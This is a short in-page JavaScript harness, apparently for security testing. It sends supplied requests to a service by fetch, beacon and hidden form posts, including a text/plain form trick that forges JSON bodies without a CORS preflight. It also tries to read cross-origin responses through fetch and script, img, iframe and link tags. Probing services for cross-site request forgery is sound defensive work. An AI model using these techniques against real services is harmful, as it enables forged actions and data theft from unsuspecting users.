/** What a page of strangers can send to a service that does not expect it. Runs in the page. */

const quietly = (sent) => sent.catch(() => null);

/** A form's own request, in a frame; resolves when it was answered. */
const submit = (url, enctype, name, value) => {
  const frame = document.createElement('iframe');
  frame.name = `frame-${document.querySelectorAll('iframe').length}`;
  const form = document.createElement('form');
  Object.assign(form, { method: 'POST', action: url, enctype, target: frame.name });
  const field = document.createElement('textarea');
  Object.assign(field, { name, value });
  form.append(field);
  document.body.append(frame, form);
  return new Promise((resolve) => {
    frame.onload = resolve;
    form.submit();
  });
};

/** Sends each of `attacks` by fetch, beacon and form, with every content type that needs no leave: a POST in 11 ways. */
globalThis.attack = async ({ attacks, mode }) => {
  for (const { method, url, body } of attacks) {
    if (method !== 'POST') {
      await quietly(fetch(url, { method }));
      continue;
    }
    const multipart = new FormData();
    multipart.append('body', body);
    for (const each of [undefined, body, new URLSearchParams({ body }), multipart]) {
      await quietly(fetch(url, { method, mode, body: each }));
      navigator.sendBeacon(url, each);
    }
    for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
      // a text/plain form sends name=value: with this name and this value that is JSON
      await submit(url, enctype, `${body.slice(0, -1)},"x":"`, '"}');
    }
  }
};

/** All that the page gets to see of these URLs, by every way in which a page loads something. */
globalThis.readAll = async (urls) => {
  const seen = [];
  for (const url of urls) {
    for (const mode of ['cors', 'no-cors']) {
      await quietly(fetch(url, { mode }).then(async (answer) => seen.push(await answer.text())));
    }
    for (const tag of ['script', 'img', 'iframe', 'link']) {
      const element = document.createElement(tag);
      Object.assign(element, tag === 'link' ? { rel: 'stylesheet', href: url } : { src: url });
      await new Promise((resolve) => {
        element.onload = resolve;
        element.onerror = resolve;
        document.body.append(element);
      });
      seen.push(element.contentDocument?.body.innerText ?? '');
    }
  }
  return seen.join('\n');
};
